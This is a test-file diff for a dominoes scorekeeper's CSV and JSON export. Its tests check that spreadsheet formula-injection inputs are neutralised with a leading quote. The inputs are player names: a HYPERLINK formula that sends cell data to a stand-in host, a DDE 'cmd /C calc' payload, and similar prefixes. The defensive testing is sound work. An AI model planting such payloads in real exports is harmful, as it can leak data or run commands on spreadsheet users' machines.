@@ -98,7 +98,7 @@ def test_csv_has_one_row_per_entry_and_reads_back_with_the_csv_module(app):
     games = seed(app.user, count=2)
     response = app.get(f"/api/v1/games/{games[0].pk}/export/?format=csv")
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert list(rows[0]) == transfer.CSV_COLUMNS
     entries = Entry.objects.filter(round__game=games[0]).order_by("round__number", "position")
     assert [(int(r["round"]), r["player"], int(r["score"])) for r in rows] == [
@@ -159,3 +159,58 @@ def test_any_exported_game_reimports_identically(django_db_blocker, seed_value, 
         assert snapshot(target) == snapshot(Scorebook.personal_for(owner))
         Round.objects.all().delete()
         Game.objects.all().delete()
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://e.x/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+
+
+@pytest.mark.parametrize("path", ["/api/v1/export/?format=csv", "/export/?format=csv"])
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_numbers_stay_numbers(client, path):
+    user = UserFactory()
+    ids = [PlayerFactory(owner=user, name=name).pk for name in HOSTILE_NAMES[:4]]
+    rules = GameRules(tile_set=6)
+    services.import_game(by=user, players=ids, rules=rules, rounds=play_game(rules, ids, random.Random(2)),
+                         name="=1+1")  # fmt: skip
+    client.force_login(user)
+    response = client.get(path)
+    assert response.status_code == 200
+    assert response.content.startswith(b"\xef\xbb\xbf")  # the byte-order mark spreadsheets need for accents
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert {row["player"] for row in rows} == {f"'{name}" for name in HOSTILE_NAMES[:4]}
+    assert {row["game"] for row in rows} == {"'=1+1"}
+    assert all(row["score"].lstrip("-").isdigit() and row["pips"].isdigit() for row in rows)
+
+
+def test_a_tab_or_a_carriage_return_at_the_start_of_a_name_is_neutralised_too():
+    assert [transfer.spreadsheet_text(name) for name in HOSTILE_NAMES[4:]] == ["'\tTab", "'\rCR"]
+    assert [transfer.spreadsheet_text(name) for name in ("Ann", "Bén 2", "a=b", "")] == ["Ann", "Bén 2", "a=b", ""]
+
+
+def test_csv_says_who_went_out_each_round_and_keeps_accents(app):
+    games = seed(app.user, count=1)
+    response = app.get(f"/api/v1/games/{games[0].pk}/export/?format=csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    entries = Entry.objects.filter(round__game=games[0]).order_by("round__number", "position")
+    assert [(r["player"], r["went_out"]) for r in rows] == [
+        (e.player.name, "true" if e.went_out else "false") for e in entries
+    ]
+    assert "Bén" in {r["player"] for r in rows}
+    assert transfer.CSV_COLUMNS[-1] == "went_out"  # last: sheets that read columns by place still work
+
+
+def test_an_export_made_before_the_csv_changes_still_imports(app):
+    """The JSON export did not change (the CSV is never imported): a version 1 file of the first
+    release, written by hand here, goes in as it did."""
+    old = {"format": "chicken-foot-scorekeeper", "version": 1, "games": [{
+        "uid": "0c8f5d8e-7d2c-4a86-9c59-1f7a3f0e2a11", "name": "Old night", "scorebook": "Ann",
+        "created_at": "2024-03-01T19:00:00+01:00", "finished_at": None, "tile_set": 6,
+        "rules": {"double_blank_penalty": 50, "end_on_double_penalty": 50, "extended": False, "target_score": None},
+        "players": ["Ann", "Bén"],
+        "rounds": [{"number": 1, "starting_double": 6, "entries": [
+            {"player": "Ann", "pips": 0, "tiles_left": 0, "tiles": [], "double_blank": False, "went_out": True,
+             "ended_on_double": False, "penalty": 0, "score": 0},
+            {"player": "Bén", "pips": 12, "tiles_left": None, "tiles": [], "double_blank": False, "went_out": False,
+             "ended_on_double": False, "penalty": 0, "score": 12}]}]}]}  # fmt: skip
+    response = app.post("/api/v1/import/", old)
+    assert response.status_code == 201 and response.json() == {"games": 1, "rounds": 1, "players_created": 2}
+    assert app.get("/api/v1/export/").json()["games"][0]["rounds"][0]["entries"][1]["score"] == 12
